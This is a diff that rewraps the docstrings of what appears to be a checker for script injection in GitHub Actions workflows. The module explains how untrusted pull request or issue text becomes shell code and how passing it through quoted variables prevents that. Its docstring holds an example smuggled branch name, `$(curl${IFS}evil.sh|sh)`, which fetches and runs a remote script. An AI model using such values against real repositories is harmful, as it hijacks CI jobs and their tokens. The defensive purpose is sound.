@@ -1,23 +1,25 @@
 """Text of others becomes part of a script
 
-GitHub fills `${{ … }}` in before the shell reads a script. Where the text comes from a pull request, an issue, a
-commit or a form, whoever writes it writes a part of the script: a branch may be called `$(curl${IFS}evil.sh|sh)`. In
-a job that builds, signs or pushes, those commands have what the job has: its token, the registry that it is logged
-in to, the role that it has assumed.
+GitHub fills `${{ … }}` in before the shell reads a script. Where the text comes from a pull request, an
+issue, a commit or a form, whoever writes it writes a part of the script: a branch may be called
+`$(curl${IFS}evil.sh|sh)`. In a job that builds, signs or pushes, those commands have what the job has: its
+token, the registry that it is logged in to, the role that it has assumed.
 
-Hand the text over in a variable of the step, and read it in double quotes: the shell never takes the value of a
-variable for a command.
+Hand the text over in a variable of the step, and read it in double quotes: the shell never takes the value of
+a variable for a command.
 
-Where other steps of the workflow read the same, in jobs that make no images or behind a condition that may be about who
-has written it, they are shown and mended along with these; so are scripts of `actions/github-script`, which read a variable as
-`process.env.NAME`, and those of workflows of the repository that are called with it. JavaScript is mended only where it is
-surely a string that holds the text, and all that a script has of it: else the script stays as it is, and the fix names the lines.
+Where other steps of the workflow read the same, in jobs that make no images or behind a condition that may be
+about who has written it, they are shown and mended along with these; so are scripts of
+`actions/github-script`, which read a variable as `process.env.NAME`, and those of workflows of the repository
+that are called with it. JavaScript is mended only where it is surely a string that holds the text, and all
+that a script has of it: else the script stays as it is, and the fix names the lines.
 
-The check is silent for what others can't write (digests and other outputs of steps, commits, numbers, choices),
-for `github.ref_name`, since who pushes the ref pushes the workflow with it, for events that don't fill a context,
-for what an earlier step or job lets pass only as a pattern of plain characters has it, or takes for the tag of an image, for pull requests where a
-condition keeps forks out, and for comments and issues where a condition may be about who
-wrote them. Inputs of a reusable workflow count as what its callers in the repository pass.
+The check is silent for what others can't write (digests and other outputs of steps, commits, numbers,
+choices), for `github.ref_name`, since who pushes the ref pushes the workflow with it, for events that don't
+fill a context, for what an earlier step or job lets pass only as a pattern of plain characters has it, or
+takes for the tag of an image, for pull requests where a condition keeps forks out, and for comments and
+issues where a condition may be about who wrote them. Inputs of a reusable workflow count as what its callers
+in the repository pass.
 
 References:
 
@@ -1068,7 +1070,8 @@ def _finding(
     elsewhere: Mapping[Step, tuple[Foreign, ...]],
     covered: frozenset[tuple[Step, Span]],
 ) -> Finding:
-    """Of a step in a job that makes images or vouches; `elsewhere` is what other steps of the workflow read of the same.
+    """Of a step in a job that makes images or vouches; `elsewhere` is what other steps of the workflow read
+    of the same.
 
     Of called workflows what findings of their own cover is left out.
     """
